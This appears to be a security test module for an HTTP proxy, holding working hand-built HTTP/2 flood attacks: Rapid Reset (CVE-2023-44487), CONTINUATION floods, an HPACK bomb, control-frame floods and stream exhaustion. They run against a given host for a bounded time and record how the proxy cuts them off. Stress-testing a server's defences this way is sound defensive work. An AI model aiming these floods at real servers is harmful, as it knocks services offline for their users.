"""HTTP/2 flood clients that attack the proxy over raw h2c connections for a bounded time."""

from __future__ import annotations

import argparse
import itertools
import json
import select
import socket
import sys
import time
from collections import Counter, deque
from collections.abc import Callable, Iterator
from dataclasses import asdict, dataclass, field

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

# Frame types and flags (RFC 9113 §6).
DATA = 0x0
HEADERS = 0x1
RST_STREAM = 0x3
SETTINGS = 0x4
PING = 0x6
GOAWAY = 0x7
WINDOW_UPDATE = 0x8
CONTINUATION = 0x9
FRAME_NAMES = {
    0: "DATA",
    1: "HEADERS",
    2: "PRIORITY",
    3: "RST_STREAM",
    4: "SETTINGS",
    5: "PUSH_PROMISE",
    6: "PING",
    7: "GOAWAY",
    8: "WINDOW_UPDATE",
    9: "CONTINUATION",
}
END_STREAM = 0x1
ACK = 0x1
END_HEADERS = 0x4
SETTINGS_INITIAL_WINDOW_SIZE = 0x4
ERROR_NAMES = (
    "NO_ERROR",
    "PROTOCOL_ERROR",
    "INTERNAL_ERROR",
    "FLOW_CONTROL_ERROR",
    "SETTINGS_TIMEOUT",
    "STREAM_CLOSED",
    "FRAME_SIZE_ERROR",
    "REFUSED_STREAM",
    "CANCEL",
    "COMPRESSION_ERROR",
    "CONNECT_ERROR",
    "ENHANCE_YOUR_CALM",
    "INADEQUATE_SECURITY",
    "HTTP_1_1_REQUIRED",
)
CANCEL = ERROR_NAMES.index("CANCEL")
MAX_FRAME_PAYLOAD = 16_384  # SETTINGS_MAX_FRAME_SIZE's initial value
FIRST_DYNAMIC_INDEX = 62  # HPACK: the static table has 61 entries

CONNECT_TIMEOUT_S = 5.0
POLL_S = 0.05
# Refill the send buffer below this, so that the socket never waits on Python.
LOW_WATER_BYTES = 256 * 1024
SEND_CHUNK_BYTES = 256 * 1024

# Attack sizes: large enough to be a flood, small enough for a small test machine.
STREAMS_PER_BATCH = 100
FRAMES_PER_BATCH = 1000
CONTINUATION_FILLER_BYTES = 1000
BOMB_VALUE_BYTES = 4000  # one entry that (nearly) fills the default 4096-byte table
SLOW_HOLD_S = 5
ZERO_WINDOW_CONNECTIONS = 4
ZERO_WINDOW_STREAMS = 100  # per connection, under the proxy's 200 concurrent streams
BIG_BODY_BYTES = 1 << 20

Batch = tuple[bytes, int]
"""Bytes to send and how many attack frames they hold."""


# --- Frames and HPACK, by hand: a well-behaved library would refuse to send most floods ---


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    """One HTTP/2 frame: 9-byte header, then ``payload``."""
    return (
        len(payload).to_bytes(3, "big")
        + bytes([kind, flags])
        + (stream_id & 0x7FFF_FFFF).to_bytes(4, "big")
        + payload
    )


def settings_frame(settings: dict[int, int]) -> bytes:
    """A SETTINGS frame (not an ACK) carrying ``settings``."""
    payload = b"".join(k.to_bytes(2, "big") + v.to_bytes(4, "big") for k, v in settings.items())
    return frame(SETTINGS, 0, 0, payload)


def hpack_int(value: int, prefix_bits: int, flags: int = 0) -> bytes:
    """An HPACK integer with an N-bit prefix (RFC 7541 §5.1); ``flags`` fill the high bits."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([flags | value])
    out = bytearray([flags | limit])
    value -= limit
    while value >= 0x80:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_string(value: bytes) -> bytes:
    """An HPACK string literal without Huffman coding."""
    return hpack_int(len(value), 7) + value


def hpack_indexed(index: int) -> bytes:
    """An indexed header field: one table entry, by its index."""
    return hpack_int(index, 7, 0x80)


def hpack_literal(name_index: int, value: bytes) -> bytes:
    """A literal field without indexing whose name is a static-table entry."""
    return hpack_int(name_index, 4) + hpack_string(value)


def hpack_literal_new_name(name: bytes, value: bytes, *, indexed: bool) -> bytes:
    """A literal field with a new name; ``indexed`` also adds it to the dynamic table."""
    return (b"\x40" if indexed else b"\x00") + hpack_string(name) + hpack_string(value)


def request_block(authority: str, path: str = "/", method: str = "GET") -> bytes:
    """A request's header block that leaves the peer's dynamic table untouched.

    Static entries: 2 ``:method GET``, 3 ``:method POST``, 1 ``:authority``,
    4 ``:path /``, 6 ``:scheme http``.
    """
    methods = {"GET": hpack_indexed(2), "POST": hpack_indexed(3)}
    path_field = hpack_indexed(4) if path == "/" else hpack_literal(4, path.encode())
    return methods[method] + hpack_indexed(6) + path_field + hpack_literal(1, authority.encode())


def stream_ids() -> Iterator[int]:
    """Client stream ids in order: 1, 3, 5, ... up to the largest one allowed."""
    return iter(range(1, 1 << 31, 2))


def batches_of(ids: Iterator[int], size: int) -> Iterator[list[int]]:
    """Consecutive groups of ``size`` ids."""
    while group := list(itertools.islice(ids, size)):
        yield group


def opening(settings: dict[int, int] | None = None) -> Batch:
    """The client preface and its SETTINGS; not counted as attack frames."""
    return PREFACE + settings_frame(settings or {}), 0


# --- The attacks: each returns one batch iterator per connection it opens ---


@dataclass(frozen=True)
class Target:
    """The proxy's h2c listener."""

    host: str
    port: int

    @property
    def authority(self) -> str:
        """``host:port``, as ``:authority``."""
        return f"{self.host}:{self.port}"


def rapid_reset(target: Target) -> list[Iterator[Batch]]:
    """CVE-2023-44487: open a stream and cancel it at once, over and over."""

    def batches() -> Iterator[Batch]:
        yield opening()
        block = request_block(target.authority)
        for group in batches_of(stream_ids(), STREAMS_PER_BATCH):
            frames = (
                frame(HEADERS, END_STREAM | END_HEADERS, sid, block)
                + frame(RST_STREAM, 0, sid, CANCEL.to_bytes(4, "big"))
                for sid in group
            )
            yield b"".join(frames), 2 * len(group)

    return [batches()]


def continuation_flood(target: Target) -> list[Iterator[Batch]]:
    """CVE-2024-27316 style: one header block that never ends, in endless CONTINUATION frames."""

    def batches() -> Iterator[Batch]:
        yield opening()
        yield frame(HEADERS, END_STREAM, 1, request_block(target.authority)), 1
        # Valid fields, so that only the block's size and length can stop it.
        filler = hpack_literal_new_name(
            b"x-filler", b"a" * CONTINUATION_FILLER_BYTES, indexed=False
        )
        many = frame(CONTINUATION, 0, 1, filler) * STREAMS_PER_BATCH
        while True:
            yield many, STREAMS_PER_BATCH

    return [batches()]


def hpack_bomb(target: Target) -> list[Iterator[Batch]]:
    """Put one 4 KB header in the dynamic table, then name it by its 1-byte index ~16k times
    per header block: each 16 KB frame decodes to ~64 MB of headers."""

    def batches() -> Iterator[Batch]:
        yield opening()
        request = request_block(target.authority)
        insert = hpack_literal_new_name(b"x-bomb", b"b" * BOMB_VALUE_BYTES, indexed=True)
        reference = hpack_indexed(FIRST_DYNAMIC_INDEX)
        ids = stream_ids()
        first = request + insert
        first += reference * (MAX_FRAME_PAYLOAD - len(first))
        yield frame(HEADERS, END_STREAM | END_HEADERS, next(ids), first), 1
        block = request + reference * (MAX_FRAME_PAYLOAD - len(request))
        for group in batches_of(ids, 8):
            frames = (frame(HEADERS, END_STREAM | END_HEADERS, sid, block) for sid in group)
            yield b"".join(frames), len(group)

    return [batches()]


def endless(single: bytes) -> list[Iterator[Batch]]:
    """One connection that sends the connection-level frame ``single`` without end."""

    def batches() -> Iterator[Batch]:
        yield opening()
        many = single * FRAMES_PER_BATCH
        while True:
            yield many, FRAMES_PER_BATCH

    return [batches()]


def ping_flood(target: Target) -> list[Iterator[Batch]]:
    """PINGs without end, each of which asks for a PING ACK."""
    return endless(frame(PING, 0, 0, b"h2flood!"))


def settings_flood(target: Target) -> list[Iterator[Batch]]:
    """SETTINGS frames without end, each of which asks for an ACK."""
    # The value already in force: every frame asks for work and an ACK but changes nothing.
    return endless(settings_frame({SETTINGS_INITIAL_WINDOW_SIZE: 65_535}))


def window_update_flood(target: Target) -> list[Iterator[Batch]]:
    """Connection WINDOW_UPDATEs of 1 byte without end."""
    return endless(frame(WINDOW_UPDATE, 0, 0, (1).to_bytes(4, "big")))


def empty_data_flood(target: Target) -> list[Iterator[Batch]]:
    """Open an upload and send it empty DATA frames without end: work, but no bytes."""

    def batches() -> Iterator[Batch]:
        yield opening()
        upload = request_block(target.authority, "/upload", "POST")
        yield frame(HEADERS, END_HEADERS, 1, upload), 1
        many = frame(DATA, 0, 1) * FRAMES_PER_BATCH
        while True:
            yield many, FRAMES_PER_BATCH

    return [batches()]


def excess_streams(target: Target) -> list[Iterator[Batch]]:
    """Open slow requests without end, ignoring SETTINGS_MAX_CONCURRENT_STREAMS."""

    def batches() -> Iterator[Batch]:
        yield opening()
        block = request_block(target.authority, f"/slow?s={SLOW_HOLD_S}")
        for group in batches_of(stream_ids(), STREAMS_PER_BATCH):
            frames = (frame(HEADERS, END_STREAM | END_HEADERS, sid, block) for sid in group)
            yield b"".join(frames), len(group)

    return [batches()]


def zero_window_readers(target: Target) -> list[Iterator[Batch]]:
    """Many connections ask for large bodies with a stream window of 0 and never grant credit:
    the proxy may not send a byte of the bodies, and must not buffer them either."""

    def batches() -> Iterator[Batch]:
        preface, _ = opening({SETTINGS_INITIAL_WINDOW_SIZE: 0})
        block = request_block(target.authority, f"/big?bytes={BIG_BODY_BYTES}")
        ids = itertools.islice(stream_ids(), ZERO_WINDOW_STREAMS)
        requests = b"".join(frame(HEADERS, END_STREAM | END_HEADERS, sid, block) for sid in ids)
        yield preface + requests, ZERO_WINDOW_STREAMS

    return [batches() for _ in range(ZERO_WINDOW_CONNECTIONS)]


ATTACKS: dict[str, Callable[[Target], list[Iterator[Batch]]]] = {
    "rapid_reset": rapid_reset,
    "continuation_flood": continuation_flood,
    "hpack_bomb": hpack_bomb,
    "ping_flood": ping_flood,
    "settings_flood": settings_flood,
    "empty_data_flood": empty_data_flood,
    "window_update_flood": window_update_flood,
    "excess_streams": excess_streams,
    "zero_window_readers": zero_window_readers,
}


# --- Running an attack ---


@dataclass(frozen=True)
class FloodResult:
    """How an attack went, as the attacker saw it."""

    attack: str
    connections: int
    frames_sent: int
    ran_s: float
    # Seconds until the proxy had closed every attacking connection; None if one lasted.
    cut_after_s: float | None
    # "GOAWAY <code> <debug data>", "EOF", "TCP reset", or "time limit".
    ended_by: str
    # Frames received from the proxy by type; resets also by code ("RST_STREAM REFUSED_STREAM").
    received: dict[str, int] = field(default_factory=dict)

    def to_json(self) -> str:
        """One line of JSON."""
        return json.dumps(asdict(self))

    @classmethod
    def from_json(cls, text: str) -> FloodResult:
        """Inverse of ``to_json``."""
        return cls(**json.loads(text))


def error_name(code: int) -> str:
    """The RFC 9113 name of an error code, or the number."""
    return ERROR_NAMES[code] if code < len(ERROR_NAMES) else f"0x{code:x}"


def copies_at(buf: bytes | bytearray, unit: bytes, start: int) -> int:
    """How many copies of ``unit`` follow one another in ``buf`` from ``start`` on."""
    count, step, size = 0, 1, len(unit)
    # Galloping search: double the step while whole blocks match, then halve it.
    while step:
        if buf[start + count * size : start + (count + step) * size] == unit * step:
            count += step
            step *= 2
        else:
            step //= 2
    return count


class AttackLink:
    """One attacking connection: what waits to be sent, what came back, and how it ended."""

    def __init__(self, sock: socket.socket, batches: Iterator[Batch]) -> None:
        self.sock = sock
        self.batches = batches
        self.outbound = bytearray()
        # Per queued batch: [bytes not yet written, frames it holds].
        self.queued: deque[list[int]] = deque()
        self.inbound = bytearray()
        self.frames_sent = 0
        self.received: Counter[str] = Counter()
        self.exhausted = False
        self.ended_by: str | None = None
        self.ended_at = 0.0

    def refill(self) -> None:
        """Take batches from the attack until the send buffer is full enough."""
        while not self.exhausted and len(self.outbound) < LOW_WATER_BYTES:
            try:
                data, frames = next(self.batches)
            except StopIteration:
                self.exhausted = True
                return
            self.queue(data, frames)

    def queue(self, data: bytes, frames: int) -> None:
        """Append whole frames to the send buffer (so frame boundaries stay intact)."""
        self.outbound += data
        self.queued.append([len(data), frames])

    def write(self) -> None:
        """Send what the socket takes now; count the frames fully written."""
        try:
            sent = self.sock.send(memoryview(self.outbound)[:SEND_CHUNK_BYTES])
        except BlockingIOError:
            return
        except OSError:
            self.end("TCP reset")
            return
        del self.outbound[:sent]
        while sent and self.queued:
            head = self.queued[0]
            taken = min(sent, head[0])
            head[0] -= taken
            sent -= taken
            if head[0] == 0:
                self.frames_sent += head[1]
                self.queued.popleft()

    def read(self) -> None:
        """Read what the proxy sent and react to it like a client would."""
        try:
            data = self.sock.recv(256 * 1024)
        except BlockingIOError:
            return
        except OSError:
            self.end("TCP reset")
            return
        if not data:
            self.end("EOF")
            return
        self.inbound += data
        self.take_frames()

    def take_frames(self) -> None:
        """Handle every whole frame in the receive buffer."""
        buf, at = self.inbound, 0
        while len(buf) - at >= 9 and self.ended_by is None:
            end = at + 9 + int.from_bytes(buf[at : at + 3], "big")
            if end > len(buf):
                break
            raw = bytes(buf[at:end])
            # A flood of PINGs or SETTINGS is answered by a flood of identical ACKs: handling
            # them as one keeps the attacker's CPU use (which slows everything on a small
            # machine) from counting against the proxy.
            copies = 1 + copies_at(buf, raw, end)
            self.on_frame(raw[3], raw[4], raw[9:], copies)
            at = end + (copies - 1) * len(raw)
        del buf[:at]

    def on_frame(self, kind: int, flags: int, payload: bytes, copies: int) -> None:
        """Count ``copies`` identical frames; acknowledge SETTINGS and PING; stop at GOAWAY."""
        if kind == RST_STREAM and len(payload) == 4:
            self.received[f"RST_STREAM {error_name(int.from_bytes(payload, 'big'))}"] += copies
        else:
            self.received[FRAME_NAMES.get(kind, f"type {kind}")] += copies
        if kind == SETTINGS and not flags & ACK:
            self.queue(frame(SETTINGS, ACK, 0) * copies, 0)
        elif kind == PING and not flags & ACK:
            self.queue(frame(PING, ACK, 0, payload) * copies, 0)
        elif kind == GOAWAY and len(payload) >= 8:
            code = error_name(int.from_bytes(payload[4:8], "big"))
            debug = payload[8:].decode(errors="replace")
            self.end(f"GOAWAY {code} {debug}".strip())

    def end(self, how: str) -> None:
        """The proxy ended this connection."""
        if self.ended_by is None:
            self.ended_by = how
            self.ended_at = time.monotonic()


def run_attack(name: str, host: str, port: int, seconds: float) -> FloodResult:
    """Run attack ``name`` against ``host:port`` for at most ``seconds``, or until the proxy
    has closed every connection it opened."""
    plans = ATTACKS[name](Target(host, port))
    links = []
    for batches in plans:
        sock = socket.create_connection((host, port), timeout=CONNECT_TIMEOUT_S)
        sock.setblocking(False)
        links.append(AttackLink(sock, batches))
    started = time.monotonic()
    deadline = started + seconds
    try:
        while (live := [link for link in links if link.ended_by is None]) and (
            wait := deadline - time.monotonic()
        ) > 0:
            for link in live:
                link.refill()
            readable, writable, _ = select.select(
                [link.sock for link in live],
                [link.sock for link in live if link.outbound],
                [],
                min(POLL_S, wait),
            )
            for link in live:
                if link.sock in readable:
                    link.read()
                if link.sock in writable and link.ended_by is None:
                    link.write()
    finally:
        for link in links:
            link.sock.close()
    ran = time.monotonic() - started
    received: Counter[str] = Counter()
    for link in links:
        received.update(link.received)
    cut = all(link.ended_by is not None for link in links)
    last = max(links, key=lambda link: link.ended_at)
    return FloodResult(
        attack=name,
        connections=len(links),
        frames_sent=sum(link.frames_sent for link in links),
        ran_s=round(ran, 3),
        cut_after_s=round(last.ended_at - started, 3) if cut else None,
        ended_by=(last.ended_by or "time limit") if cut else "time limit",
        received=dict(received),
    )


def main(argv: list[str] | None = None) -> int:
    """``python -m tests.security.h2flood ATTACK HOST PORT [--seconds S]``: one JSON line."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("--seconds", type=float, default=4.0)
    args = parser.parse_args(argv)
    result = run_attack(args.attack, args.host, args.port, args.seconds)
    sys.stdout.write(result.to_json() + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
